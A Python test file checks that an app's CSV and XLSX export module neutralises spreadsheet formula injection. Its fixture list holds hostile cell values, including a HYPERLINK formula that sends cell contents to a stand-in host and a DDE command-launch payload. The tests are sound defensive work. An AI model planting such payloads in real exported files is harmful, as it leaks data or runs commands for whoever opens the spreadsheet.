"""Every CSV/XLSX the app offers goes through regional.exports: no text cell can start a formula."""
from __future__ import annotations

import csv
import io

import pandas as pd
from openpyxl import load_workbook

from regional import exports

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A2&B2,"Source document (click)")', "+cmd|' /C calc'!A0",
           "@SUM(A1:A9)", "-2+3", "\tTAB", "\rCR", "plain text", "12th highest of 151, tied"]


def test_csv_neutralises_every_formula_start_and_keeps_numbers():
    frame = pd.DataFrame({"document": HOSTILE, "value": [-3.5, 1, 2, 3, 4, 5, 6, 7]})
    data = exports.csv_bytes(frame)
    assert exports.formula_cells(data) == []
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]
    assert [r[0] for r in rows[:6]] == ["'" + h for h in HOSTILE[:6]]
    assert [r[0] for r in rows[6:]] == HOSTILE[6:]
    assert rows[0][1] == "-3.5"  # a negative number stays a number


def test_formula_cells_finds_what_a_plain_to_csv_would_leak():
    raw = pd.DataFrame({"document": HOSTILE}).to_csv(index=False).encode()
    assert len(exports.formula_cells(raw)) >= 5  # pandas even leaves the lone CR unquoted


def test_xlsx_cells_are_text_not_formulas():
    frame = pd.DataFrame({"document": HOSTILE, "n": range(len(HOSTILE)), "missing": [None] * len(HOSTILE)})
    book = load_workbook(io.BytesIO(exports.xlsx_bytes(frame)))
    ws = book.active
    values = [row[0].value for row in ws.iter_rows(min_row=2)]
    kinds = {row[0].data_type for row in ws.iter_rows(min_row=2)}
    assert kinds == {"s"}  # no formula ('f') cells
    assert all(not str(v).startswith(exports.FORMULA_STARTS) for v in values)


def test_signed_words_never_start_with_a_sign():
    assert exports.signed(24.1, 1) == "up 24.1"
    assert exports.signed(-3) == "down 3"
    assert exports.signed(0.2) == "no change"
